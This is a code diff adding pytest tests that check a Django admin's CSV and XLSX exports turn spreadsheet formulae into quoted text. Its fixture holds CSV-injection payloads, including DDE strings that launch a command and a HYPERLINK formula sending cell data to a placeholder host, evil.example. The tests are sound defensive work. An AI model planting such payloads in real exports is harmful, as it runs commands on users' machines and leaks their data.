@@ -3,11 +3,16 @@
 import csv
 import io
 import re
+from decimal import Decimal
 
 import openpyxl
 import pytest
+import tablib
+from import_export.formats.base_formats import XLSX
 
 from licensing.models import License
+from partners.admin_tools import spreadsheet_cell, spreadsheet_safe
+from tests.factories import ContactFactory, PartnerFactory
 from tests.security.world import build
 
 pytestmark = pytest.mark.django_db
@@ -105,3 +110,101 @@ def test_license_export_as_xlsx_keeps_dates_readable(client, world):
     headers = [cell.value for cell in sheet[1]]
     assert "approved_at" in headers and "activation_code" not in headers
     assert sheet.max_row == License.objects.count() + 1
+
+
+# OWASP CSV injection: a value that starts with one of these is a formula to a spreadsheet.
+FORMULAE = {
+    "partner": "=cmd|' /C calc'!A0",
+    "contact": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+    "plus": "+1+cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "return": "\r=1+1",
+}
+
+
+@pytest.fixture
+def formulae(db):
+    partner = PartnerFactory(name=FORMULAE["partner"])
+    ContactFactory(partner=partner, name=FORMULAE["contact"])
+    for key in ("plus", "minus", "at", "tab", "return"):
+        ContactFactory(name=FORMULAE[key])  # one technical contact per partner
+    return partner
+
+
+def cells(response, fmt):
+    """Every cell of an export, as a spreadsheet reads it (formulae as formulae)."""
+    if fmt == "csv":
+        return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    return [cell for row in sheet.iter_rows() for cell in row]
+
+
+def assert_no_live_formula(response, fmt, values):
+    found = cells(response, fmt)
+    if fmt == "xlsx":
+        assert not [c.coordinate for c in found if c.data_type == "f"], "a formula cell"
+        found = [c.value for c in found]
+        # XML reads a carriage return back as a line feed.
+        values = [value.replace("\r", "\n") for value in values]
+    for value in values:
+        assert value not in found, f"{value!r} exported as it is"
+        assert f"'{value}" in found, f"{value!r} not exported as text"
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_list_exports_turn_formulae_into_text(client, licensing_user, formulae, fmt):
+    client.force_login(licensing_user)
+    response = export(client, "/admin/partners/partner/", fmt=fmt)
+    assert_no_live_formula(response, fmt, [FORMULAE["partner"]])
+    response = export(client, "/admin/partners/contact/", fmt=fmt)
+    assert_no_live_formula(response, fmt, [v for k, v in FORMULAE.items() if k != "partner"])
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_history_exports_turn_formulae_into_text(client, licensing_user, formulae, fmt):
+    client.force_login(licensing_user)
+    response = client.get(f"/admin/partners/partner/export-history/?format={fmt}")
+    assert_no_live_formula(response, fmt, [FORMULAE["partner"]])
+    response = client.get(f"/admin/partners/contact/export-history/?format={fmt}")
+    assert_no_live_formula(response, fmt, [v for k, v in FORMULAE.items() if k != "partner"])
+
+
+@pytest.mark.parametrize(
+    ("value", "exported"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1+1", "'+1+1"),
+        ("-1+1", "'-1+1"),
+        ("@A1", "'@A1"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("Lisbon", "Lisbon"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (None, None),
+        # Numbers stay numbers: a number cell, and a number that the CSV list export
+        # wrote as text (no formula can hide in one).
+        (-5, -5),
+        (Decimal("-1500.50"), Decimal("-1500.50")),
+        (-0.25, -0.25),
+        ("-1500.50", "-1500.50"),
+        ("+3", "+3"),
+        ("-1e3", "-1e3"),
+        ("-1500.50+cmd|' /C calc'!A0", "'-1500.50+cmd|' /C calc'!A0"),
+    ],
+)
+def test_spreadsheet_cell_quotes_formulae_and_leaves_numbers_alone(value, exported):
+    assert spreadsheet_cell(value) == exported
+    assert type(spreadsheet_cell(value)) is type(exported)
+
+
+def test_negative_numbers_stay_number_cells_in_xlsx():
+    dataset = tablib.Dataset(
+        [-5, Decimal("-1500.50"), "-1500.50", "=1+1"], headers=["a", "b", "c", "d"]
+    )
+    workbook = XLSX().export_data(spreadsheet_safe(dataset))
+    row = next(openpyxl.load_workbook(io.BytesIO(workbook)).active.iter_rows(min_row=2))
+    assert [c.data_type for c in row] == ["n", "n", "s", "s"]
+    assert [c.value for c in row] == [-5, -1500.5, "-1500.50", "'=1+1"]
